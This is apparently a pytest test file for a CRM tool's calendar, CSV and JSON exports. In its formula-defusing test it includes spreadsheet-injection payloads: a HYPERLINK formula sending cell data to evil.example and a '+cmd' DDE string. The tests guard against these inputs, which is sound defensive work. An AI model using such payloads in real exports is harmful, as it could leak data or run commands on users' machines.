"""The data files: a calendar feed, a spreadsheet and JSON, as bytes from the vault and today."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import icalendar
from conftest import TODAY, load, make_vault
from hypothesis import given, settings
from hypothesis import strategies as st

from vault_tool.exports import (
    calendar_ics,
    csv_file,
    csv_header,
    csv_row,
    customer_record,
    customers_csv,
    customers_json,
    defuse,
    export_pages,
    ics_events,
    ics_file,
    ics_key,
    ics_order,
    id_order,
    json_file,
    json_record,
    uid_hash,
)
from vault_tool.model import (
    Contact,
    Customer,
    Deal,
    Duration,
    Interaction,
    Purchase,
    Settings,
    Vault,
)
from vault_tool.vault import load_vault

SETTINGS = Settings(
    name="Harbour 港松",
    currency="CNY",
    default_cadence=(("active", Duration(1, "m")),),
    owners=("alice", "王芳"),
)
EXAMPLE_VAULT = Path(__file__).resolve().parent.parent / "example_vault"


def customer(cid: str, **fields: Any) -> Customer:
    fields.setdefault("name", cid.title())
    return Customer(id=cid, path=f"customers/{cid}.md", **fields)


def log(*dates: str) -> tuple[Interaction, ...]:
    return tuple(Interaction(date.fromisoformat(d), "call", "x", i) for i, d in enumerate(dates, 1))


def vault(*customers: Customer, settings: Settings = SETTINGS) -> Vault:
    return Vault(settings, tuple(customers), ())


def sample() -> Vault:
    """Two due (one overdue), one closed with a date, one open without a plan."""
    return vault(
        customer("acme", status="active", owner="alice", log=log("2026-10-01")),
        customer("上海咖啡", name="上海静安咖啡学院", status="prospect", owner="王芳",
                 next_follow_up=date(2026, 11, 30), follow_up="带样品去演示"),
        customer("gone", status="lost", next_follow_up=date(2026, 11, 25)),
        customer("drifting", status="prospect"),
    )


# --- follow-ups.ics -------------------------------------------------------


def parse_ics(data: bytes) -> icalendar.Calendar:
    return icalendar.Calendar.from_ical(data)


def by_uid(cal: icalendar.Calendar, kind: str) -> dict[str, icalendar.cal.Component]:
    return {str(c["uid"]): c for c in cal.walk(kind)}


def test_ics_has_an_event_and_a_todo_per_due_customer_only() -> None:
    cal = parse_ics(calendar_ics(sample(), TODAY))
    events, todos = cal.walk("VEVENT"), cal.walk("VTODO")
    acme, shanghai = uid_hash("acme"), uid_hash("上海咖啡")
    # Sorted by due date: acme (overdue, 2026-11-01) before 上海咖啡 (2026-11-30).
    assert [str(e["uid"]) for e in events] == [f"{acme}-event@vault-tool", f"{shanghai}-event@vault-tool"]
    assert [str(t["uid"]) for t in todos] == [f"{acme}-todo@vault-tool", f"{shanghai}-todo@vault-tool"]
    assert "gone" not in str(cal.to_ical()) and "Drifting" not in str(cal.to_ical())


def test_ics_overdue_follow_up_stays_on_its_due_date_as_all_day_event_and_todo() -> None:
    cal = parse_ics(calendar_ics(sample(), TODAY))
    event = cal.walk("VEVENT")[0]
    todo = cal.walk("VTODO")[0]
    assert event.decoded("dtstart") == date(2026, 11, 1)
    assert event.decoded("dtend") == date(2026, 11, 2)
    assert todo.decoded("due") == date(2026, 11, 1)
    assert str(todo["status"]) == "NEEDS-ACTION"
    raw = calendar_ics(sample(), TODAY)
    assert b"DTSTART;VALUE=DATE:20261101\r\n" in raw
    assert b"DTEND;VALUE=DATE:20261102\r\n" in raw
    assert b"DUE;VALUE=DATE:20261101\r\n" in raw


def test_ics_calendar_properties() -> None:
    data = calendar_ics(sample(), TODAY)
    assert b"REFRESH-INTERVAL;VALUE=DURATION:PT12H\r\n" in data
    cal = parse_ics(data)
    assert str(cal["prodid"]) == "-//vault-tool//EN"
    assert str(cal["version"]) == "2.0"
    assert str(cal["calscale"]) == "GREGORIAN"
    assert str(cal["x-wr-calname"]) == "Harbour 港松"


def test_ics_summary_description_and_categories() -> None:
    cal = parse_ics(calendar_ics(sample(), TODAY))
    acme = by_uid(cal, "VEVENT")[f"{uid_hash('acme')}-event@vault-tool"]
    assert isinstance(acme, icalendar.Event)
    assert str(acme["summary"]) == "Follow up: Acme"
    assert str(acme["description"]).split("\n") == [
        "Owner: alice", "Reason: by cadence", "Last contact: 2026-10-01", "customers/acme.html",
    ]
    assert acme.categories == ["alice"]
    shanghai = by_uid(cal, "VTODO")[f"{uid_hash('上海咖啡')}-todo@vault-tool"]
    assert str(shanghai["summary"]) == "Follow up: 上海静安咖啡学院 — 带样品去演示"
    assert "Reason: scheduled" in str(shanghai["description"])
    assert "Last contact: None" in str(shanghai["description"])
    assert "url" not in shanghai


def test_ics_chinese_locale() -> None:
    zh = vault(*sample().customers, settings=replace(SETTINGS, locale="zh"))
    cal = parse_ics(calendar_ics(zh, TODAY))
    todo = by_uid(cal, "VTODO")[f"{uid_hash('上海咖啡')}-todo@vault-tool"]
    assert str(todo["summary"]) == "跟进：上海静安咖啡学院 — 带样品去演示"
    assert str(todo["description"]).split("\n")[:2] == ["负责人：王芳", "原因：已预约"]


def test_ics_site_url_gives_absolute_percent_encoded_links() -> None:
    cal = parse_ics(calendar_ics(sample(), TODAY, site_url="https://crm.example.com/team/"))
    todo = by_uid(cal, "VTODO")[f"{uid_hash('上海咖啡')}-todo@vault-tool"]
    url = "https://crm.example.com/team/customers/%E4%B8%8A%E6%B5%B7%E5%92%96%E5%95%A1.html"
    assert str(todo["url"]) == url
    assert str(todo["description"]).endswith("\n" + url)


def test_ics_uids_are_stable_across_days_and_due_dates() -> None:
    first = parse_ics(calendar_ics(sample(), TODAY))
    later = parse_ics(calendar_ics(sample(), TODAY + timedelta(days=40)))
    moved = vault(customer("acme", status="active", owner="alice", log=log("2026-11-20")))
    after_call = parse_ics(calendar_ics(moved, TODAY))
    assert set(by_uid(first, "VEVENT")) == set(by_uid(later, "VEVENT"))
    assert set(by_uid(first, "VTODO")) == set(by_uid(later, "VTODO"))
    acme = f"{uid_hash('acme')}-event@vault-tool"
    assert by_uid(after_call, "VEVENT")[acme].decoded("dtstart") == date(2026, 12, 20)
    assert uid_hash("acme") == uid_hash("acme") != uid_hash("Acme")
    assert uid_hash("上海咖啡").isascii()


def test_uid_hash_ignores_unicode_normalisation() -> None:
    assert uid_hash("cafe\u0301") == uid_hash("caf\u00e9")


def test_ics_is_byte_identical_and_stamped_with_today() -> None:
    first, second = calendar_ics(sample(), TODAY), calendar_ics(sample(), TODAY)
    assert first == second
    assert b"DTSTAMP:20261123T000000Z\r\n" in first
    assert calendar_ics(sample(), TODAY + timedelta(days=1)) != first


def content_lines_ok(data: bytes) -> None:
    """CRLF only, and no physical line longer than 75 octets (RFC 5545, 3.1)."""
    assert data.endswith(b"\r\n")
    lines = data.split(b"\r\n")[:-1]
    assert all(b"\n" not in line and b"\r" not in line for line in lines)
    assert max(len(line) for line in lines) <= 75, max(lines, key=len)
    data.decode("utf-8")  # folding never splits a character


def test_ics_folds_long_chinese_text_within_75_octets() -> None:
    long_name = "杭州西溪湿地生态旅游度假酒店管理有限公司" * 4
    long_step = "带意式咖啡机、磨豆机和六百只定制陶瓷杯样品去学院演示，并确认培训安排" * 3
    v = vault(customer("杭州西溪", name=long_name, owner="王芳", status="active",
                       next_follow_up=TODAY, follow_up=long_step),
              settings=replace(SETTINGS, locale="zh"))
    data = calendar_ics(v, TODAY, site_url="https://example.com/" + "路径/" * 20)
    content_lines_ok(data)
    event = parse_ics(data).walk("VEVENT")[0]
    assert str(event["summary"]) == f"跟进：{long_name} — {long_step}"


def test_ics_text_is_cleaned_of_control_characters_and_line_breaks() -> None:
    v = vault(customer("acme", name="Ac\x00me\x1b;, Inc", status="active", owner="a,b",
                       next_follow_up=TODAY, follow_up="call\r\nback\n  soon"))
    data = calendar_ics(v, TODAY)
    content_lines_ok(data)
    assert b"\x00" not in data and b"\x1b" not in data
    event = parse_ics(data).walk("VEVENT")[0]
    assert str(event["summary"]) == "Follow up: Acme;, Inc — call back soon"


def clean(text: str) -> str:
    """What the feed promises for a summary: whitespace runs as one space, no control characters."""
    return re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", " ".join(text.split()))


NASTY = {
    "comma": ("Acme, Inc; Ltd", "call back, then; maybe"),
    "backslash": ("C:\\Notes\\N\\n", "path \\ and \\, and \\;"),
    "newline": ("two\nlines", "a\r\nb\rc"),
    "chinese": ("上海静安咖啡学院", "带意式咖啡机、磨豆机和六百只陶瓷杯样品去学院演示，确认培训" * 3),
    "emoji": ("Tea 🍵 House 👩🏽‍💼", "☕" * 60),
    "fold": ("x" * 62 + "茶", "y" * 70 + "\\" + "z" * 80),
}


def test_ics_nasty_strings_read_back_exactly() -> None:
    customers = [customer(key, name=name, status="active", owner=f"{key}, Ltd; \\ 王",
                          next_follow_up=TODAY + timedelta(days=i), follow_up=step)
                 for i, (key, (name, step)) in enumerate(NASTY.items())]
    data = calendar_ics(vault(*customers), TODAY, site_url="https://example.com/crm/")
    content_lines_ok(data)
    cal = parse_ics(data)
    events, todos = by_uid(cal, "VEVENT"), by_uid(cal, "VTODO")
    for i, (key, (name, step)) in enumerate(NASTY.items()):
        event, todo = events[f"{uid_hash(key)}-event@vault-tool"], todos[f"{uid_hash(key)}-todo@vault-tool"]
        summary = clean(f"Follow up: {name} — {step}")
        assert str(event["summary"]) == str(todo["summary"]) == summary
        assert event.decoded("dtstart") == todo.decoded("due") == TODAY + timedelta(days=i)
        assert event.categories == todo.categories == [f"{key}, Ltd; \\ 王"]
        assert str(event["description"]).split("\n")[0] == f"Owner: {key}, Ltd; \\ 王"
        assert str(todo["url"]) == f"https://example.com/crm/customers/{key}.html"


@settings(max_examples=100, deadline=None)
@given(name=st.text(min_size=1, max_size=200), step=st.text(max_size=200), owner=st.text(max_size=80))
def test_ics_any_text_folds_and_round_trips(name: str, step: str, owner: str) -> None:
    """Whatever a note holds, the feed is valid and says exactly the cleaned text."""
    v = vault(customer("x", name=name, status="active", next_follow_up=TODAY, follow_up=step or None,
                       owner=owner or None))
    data = calendar_ics(v, TODAY)
    content_lines_ok(data)
    todo = parse_ics(data).walk("VTODO")[0]
    expected = clean(f"Follow up: {name}" + (f" — {step}" if step else ""))
    assert str(todo["summary"]) == expected
    kept = re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", "", owner.replace("\r\n", "\n").replace("\r", "\n"))
    assert (todo.categories if "categories" in todo else []) == ([kept] if kept else [])


def test_ics_from_per_customer_pieces_is_the_whole_feed() -> None:
    """The pieces a per-customer cache would keep give back the feed, byte for byte."""
    v = load_vault(EXAMPLE_VAULT, TODAY)
    s = v.settings
    for url in (None, "https://example.com/crm"):
        pieces = {c.id: ics_events(c, s, TODAY, url) for c in v.customers}
        order = ics_order(reversed(v.customers), s, TODAY)
        assert ics_file(s, (pieces[c.id] for c in order)) == calendar_ics(v, TODAY, site_url=url)
    closed = next(c for c in v.customers if s.is_closed(c.status))
    assert ics_events(closed, s, TODAY) == "" and ics_key(closed, s, TODAY) is None
    assert [ics_key(c, s, TODAY) for c in order] == sorted(ics_key(c, s, TODAY) for c in order)


def whole_vault_csv(v: Vault) -> bytes:
    """customers.csv as the csv module writes it in one go: what the rows must add up to."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(csv_header(v.settings))
    for c in sorted(v.customers, key=lambda c: c.id):
        writer.writerow(next(csv.reader(io.StringIO(csv_row(c, v.settings, TODAY), newline=""))))
    return out.getvalue().encode("utf-8-sig")


def whole_vault_json(v: Vault) -> bytes:
    """customers.json as json.dumps writes the whole document: what the records must add up to."""
    document = {"generated_for": TODAY.isoformat(), "vault": v.settings.name or "Customers",
                "currency": v.settings.currency,
                "customers": [customer_record(c, v.settings, TODAY) for c in id_order(v.customers)]}
    text = json.dumps(document, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    return (text + "\n").encode("utf-8")


def test_csv_and_json_from_per_customer_pieces_are_the_whole_files() -> None:
    hostile = customer("q", name='He said "hi", then\nleft', owner="=1+1", tags=("a,b", "c;d"),
                       follow_up="\r\nx")
    empty = vault(settings=replace(SETTINGS, name='名 "q"', currency=None))
    for v in (load_vault(EXAMPLE_VAULT, TODAY), empty, sample(), vault(hostile, *sample().customers)):
        s = v.settings
        rows = {c.id: csv_row(c, s, TODAY) for c in v.customers}
        records = {c.id: json_record(c, s, TODAY) for c in v.customers}
        order = id_order(reversed(v.customers))
        assert csv_file(s, (rows[c.id] for c in order)) == customers_csv(v, TODAY) == whole_vault_csv(v)
        assert json_file(s, TODAY, (records[c.id] for c in order)) == customers_json(v, TODAY) \
            == whole_vault_json(v)
    assert rows["q"].startswith('q,"He said ""hi"", then\nleft",,\'=1+1,"a,b; c;d",')
    assert rows["q"].endswith(",customers/q.md\r\n")


# --- customers.csv --------------------------------------------------------


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    text = data[3:].decode("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_starts_with_bom_uses_crlf_and_keeps_chinese() -> None:
    data = customers_csv(sample(), TODAY)
    assert data.startswith(b"\xef\xbb\xbfid,name,status,")
    assert data.endswith(b"\r\n") and b"\n" not in data.replace(b"\r\n", b"")
    rows = read_csv(data)
    assert [r["id"] for r in rows] == sorted(["acme", "上海咖啡", "gone", "drifting"])
    shanghai = next(r for r in rows if r["id"] == "上海咖啡")
    assert (shanghai["name"], shanghai["owner"]) == ("上海静安咖啡学院", "王芳")


def test_csv_header() -> None:
    header = next(csv.reader(io.StringIO(customers_csv(vault(), TODAY).decode("utf-8-sig"))))
    assert header == [
        "id", "name", "status", "owner", "tags", "industry", "region", "source", "created",
        "last_contact", "next_follow_up", "follow_up_reason", "follow_up", "going_cold", "contacts",
        "open_deals", "open_pipeline", "purchases_total", "last_purchase", "path",
    ]


def test_csv_computed_columns() -> None:
    c = customer(
        "acme", status="active", owner="alice", tags=("tea", "茶"), created=date(2025, 1, 2),
        log=log("2026-08-01"),
        contacts=(Contact(name="Ann", role="Buyer", email="ann@example.com", phone="+1 555 0100"),
                  Contact(name="李雷", wechat="lilei")),
        deals=(Deal("open", "proposal", Decimal("1000")),
               Deal("usd", "negotiation", Decimal("10"), currency="USD"),
               Deal("no value", "qualified"),
               Deal("won", "won", Decimal("999")),
               Deal("lost", "lost", Decimal("888"))),
        purchases=(Purchase(date(2026, 3, 1), Decimal("100.50")),
                   Purchase(date(2026, 6, 1), None),
                   Purchase(date(2025, 3, 1), Decimal("20"))),
    )
    rates = replace(SETTINGS, rates=(("USD", Decimal("7.1")),))
    row = read_csv(customers_csv(vault(c, settings=rates), TODAY))[0]
    assert {k: row[k] for k in ("tags", "created", "last_contact", "next_follow_up",
                                "follow_up_reason", "follow_up", "going_cold")} == {
        "tags": "tea; 茶", "created": "2025-01-02", "last_contact": "2026-08-01",
        "next_follow_up": "2026-09-01", "follow_up_reason": "cadence", "follow_up": "",
        "going_cold": "true",
    }
    assert row["contacts"] == "Ann (Buyer) <ann@example.com> +1 555 0100; 李雷 WeChat: lilei"
    assert (row["open_deals"], row["open_pipeline"]) == ("3", "1071")
    assert (row["purchases_total"], row["last_purchase"]) == ("120.5", "2026-06-01")
    assert row["path"] == "customers/acme.md"


def test_csv_pipeline_is_empty_when_a_currency_has_no_rate() -> None:
    c = customer("acme", deals=(Deal("a", "proposal", Decimal("5")),
                                Deal("b", "proposal", Decimal("7"), currency="EUR"),
                                Deal("c", "won", Decimal("9"), currency="EUR")))
    row = read_csv(customers_csv(vault(c), TODAY))[0]
    assert (row["open_deals"], row["open_pipeline"]) == ("2", "")
    closed_foreign = replace(c, deals=(c.deals[0], c.deals[2]))
    row = read_csv(customers_csv(vault(closed_foreign), TODAY))[0]
    assert (row["open_deals"], row["open_pipeline"]) == ("1", "5")


def test_closed_customer_row_has_no_follow_up() -> None:
    row = next(r for r in read_csv(customers_csv(sample(), TODAY)) if r["id"] == "gone")
    assert (row["next_follow_up"], row["follow_up_reason"], row["going_cold"]) == ("", "", "false")


def test_csv_defuses_formulas() -> None:
    hostile = customer(
        "x", name='=HYPERLINK("http://evil.example/?"&A1,"click")', owner="@SUM(1+1)",
        status="-2+3", tags=("+cmd|' /C calc'!A0",), industry="\tTAB", region="\rCR",
        source="＝1+1", follow_up="ok = fine",
        contacts=(Contact(phone="+86 138 0013 8000"),),
    )
    row = read_csv(customers_csv(vault(hostile), TODAY))[0]
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["owner"] == "'@SUM(1+1)"
    assert row["status"] == "'-2+3"
    assert row["tags"] == "'+cmd|' /C calc'!A0"
    assert row["industry"] == "'\tTAB"
    assert row["region"] == "'\rCR"
    assert row["source"] == "'＝1+1"
    assert row["contacts"] == "'+86 138 0013 8000"
    assert row["follow_up"] == "ok = fine"


def test_defuse_leaves_plain_numbers_and_ordinary_text() -> None:
    assert defuse("-5") == "-5"
    assert defuse("-0.5") == "-0.5"
    assert defuse("+5") == "'+5"
    assert defuse("-5 km") == "'-5 km"
    assert defuse("Acme") == "Acme"
    assert defuse("") == ""


def test_csv_has_one_column_per_custom_field_in_settings_order(tmp_path: Path) -> None:
    root = make_vault(tmp_path, {
        "vault.yml": "fields:\n  level: {type: enum, values: [A, B]}\n  path: text\n"
                     "  employees: integer\n  since: date\n  areas: list\n",
        "customers/茶馆.md": "---\nname: 成都蜀香茶馆\nlevel: A\nemployees: -3\nsince: 2020-05-01\n"
                             "areas: [成都, 重庆]\npath: =1+2\n---\n",
    })
    v = load(root)
    assert v.error_count == 0, v.problems
    data = customers_csv(v, TODAY)
    header = next(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert header[-6:] == ["level", "custom.path", "employees", "since", "areas", "path"]
    row = read_csv(data)[0]
    assert row["name"] == "成都蜀香茶馆"
    assert [row[k] for k in ("level", "employees", "since", "areas")] == [
        "A", "-3", "2020-05-01", "成都; 重庆"]
    assert row["custom.path"] == "'=1+2"
    assert row["path"] == "customers/茶馆.md"


# --- customers.json -------------------------------------------------------


def test_json_round_trip_with_computed_fields() -> None:
    c = customer("上海咖啡", name="上海静安咖啡学院", status="active", log=log("2026-11-01"),
                 deals=(Deal("a", "proposal", Decimal("1.5")), Deal("b", "won", Decimal("9"))),
                 purchases=(Purchase(date(2026, 2, 1), Decimal("200")),))
    data = customers_json(vault(c, customer("acme")), TODAY)
    assert data.endswith(b"}\n") and "上海静安咖啡学院".encode() in data
    document = json.loads(data)
    assert (document["generated_for"], document["vault"], document["currency"]) == (
        "2026-11-23", "Harbour 港松", "CNY")
    assert [r["id"] for r in document["customers"]] == ["acme", "上海咖啡"]
    record = document["customers"][1]
    assert record["fields"]["name"] == "上海静安咖啡学院"
    assert record["follow_up"] == {"due": "2026-12-01", "reason": "cadence", "what": None}
    assert record["last_contact"] == "2026-11-01"
    assert (record["open_deals"], record["open_pipeline"]) == (1, 1.5)
    assert (record["purchases_total"], record["last_purchase"]) == (200, "2026-02-01")
    assert record["page"] == "customers/上海咖啡.html"
    assert record["going_cold"] is False and record["closed"] is False
    assert customers_json(vault(c, customer("acme")), TODAY) == data


# --- every file -----------------------------------------------------------


def test_empty_vault_gives_valid_files() -> None:
    pages = {p.path: p.content for p in export_pages(vault(), TODAY)}
    assert list(pages) == ["follow-ups.ics", "customers.csv", "customers.json"]
    cal = parse_ics(pages["follow-ups.ics"])
    assert cal.walk("VEVENT") == [] and cal.walk("VTODO") == []
    content_lines_ok(pages["follow-ups.ics"])
    assert read_csv(pages["customers.csv"]) == []
    assert json.loads(pages["customers.json"])["customers"] == []


def test_default_vault_name_follows_locale() -> None:
    cal = parse_ics(calendar_ics(vault(settings=Settings(locale="zh")), TODAY))
    assert str(cal["x-wr-calname"]) == "客户"


def test_example_vault_exports() -> None:
    v = load_vault(EXAMPLE_VAULT, TODAY)
    pages = {p.path: p.content for p in export_pages(v, TODAY, site_url="https://example.com/crm")}
    assert pages == {p.path: p.content for p in export_pages(v, TODAY, site_url="https://example.com/crm")}
    content_lines_ok(pages["follow-ups.ics"])
    cal = parse_ics(pages["follow-ups.ics"])
    due = [c for c in v.customers if not v.settings.is_closed(c.status)]
    assert 0 < len(cal.walk("VEVENT")) == len(cal.walk("VTODO")) <= len(due)
    rows = read_csv(pages["customers.csv"])
    assert len(rows) == len(v.customers) == len(json.loads(pages["customers.json"])["customers"])
    assert any("茶" in r["name"] for r in rows)
